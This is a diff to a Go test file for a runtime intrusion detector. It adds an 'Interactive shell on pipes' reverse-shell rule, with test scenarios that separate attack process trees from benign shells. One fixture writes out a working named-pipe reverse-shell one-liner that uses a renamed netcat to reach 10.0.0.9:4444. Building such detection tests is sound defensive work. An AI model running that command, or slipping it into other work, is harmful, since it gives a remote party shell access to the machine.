@@ -63,6 +63,7 @@ func scenarios() []scenario {
 		dupShell   = "Reverse shell by duplicating a socket onto standard streams"
 		relay      = "Socket relay started a shell"
 		fedShell   = "Shell fed by a program that connected out"
+		ttylessSh  = "Interactive shell on pipes"
 		pipeShell  = "Shell piped to a network client"
 		newBin     = "New binary executed in a container"
 		upperBin   = "Binary from the container's writable layer executed"
@@ -241,6 +242,20 @@ func scenarios() []scenario {
 			evs(connectEv(runner, "10.0.9.9", 443), execEv(runnerSh, stdio("pipe", "pipe", "pipe"), after(time.Second))), nil},
 		scenario{"a shell after only a DNS lookup is not", fedShell, false,
 			evs(dnsConnect, execEv(resolverSh, stdio("pipe", "pipe", "pipe"), after(time.Second))), nil},
+		scenario{"cat fifo | sh -i 2>&1 | renamed-nc host port > fifo is a reverse shell", ttylessSh, true,
+			evs(execEv(childOf(proc("sh", "/usr/bin/dash", "/bin/sh", "-i"), proc("sh", "/usr/bin/dash", "sh", "-c", "cat /tmp/f | /bin/sh -i 2>&1 | /tmp/x 10.0.0.9 4444 > /tmp/f")),
+				stdio("pipe", "pipe", "pipe"))), nil},
+		scenario{"bash -li on pipes is too", ttylessSh, true,
+			evs(execEv(childOf(proc("bash", "/usr/bin/bash", "bash", "-l", "-i"), proc("python3", "/usr/bin/python3", "python3", "x.py")), stdio("pipe", "pipe", "pipe"))), nil},
+		scenario{"an interactive shell on a terminal is not", ttylessSh, false,
+			evs(execEv(childOf(proc("bash", "/usr/bin/bash", "bash", "-i"), proc("tmux", "/usr/bin/tmux", "tmux")), stdio("tty", "tty", "tty"))), nil},
+		scenario{"sh -c on pipes is not", ttylessSh, false,
+			evs(execEv(childOf(proc("sh", "/usr/bin/dash", "sh", "-c", "echo -i"), proc("python3", "/usr/bin/python3", "python3", "x.py")), stdio("pipe", "pipe", "pipe"))), nil},
+		scenario{"a script run by bash -i is not", ttylessSh, false,
+			evs(execEv(childOf(proc("bash", "/usr/bin/bash", "bash", "-i", "/ci/job.sh"), proc("runner", "/usr/bin/runner", "runner")), stdio("pipe", "pipe", "pipe"))), nil},
+		scenario{"ssh host bash -i, a remote login without a terminal, is not", ttylessSh, false,
+			evs(execEv(withParents(proc("bash", "/usr/bin/bash", "bash", "-i"), anc{"bash", "/usr/bin/bash"}, anc{"sshd-session", "/usr/lib/openssh/sshd-session"}),
+				stdio("pipe", "pipe", "pipe"))), nil},
 		scenario{"a shell with no earlier connection is a partial sequence", fedShell, false,
 			evs(execEv(childOf(proc("sh", "/bin/dash", "sh"), proc("make", "/usr/bin/make", "make")), stdio("pipe", "pipe", "pipe"))), nil},
 	)
@@ -1011,6 +1026,7 @@ var wantType = map[string]string{
 	"Reverse shell with network standard streams":                 "Execution:Runtime/ReverseShell",
 	"Reverse shell by duplicating a socket onto standard streams": "Execution:Runtime/ReverseShell",
 	"Socket relay started a shell":                                "Execution:Runtime/ReverseShell",
+	"Interactive shell on pipes":                                  "Execution:Runtime/ReverseShell",
 	"Shell fed by a program that connected out":                   "Execution:Runtime/ReverseShell",
 	"Shell piped to a network client":                             "Execution:Runtime/ReverseShell",
 	"New binary executed in a container":                          "Execution:Runtime/NewBinaryExecuted",
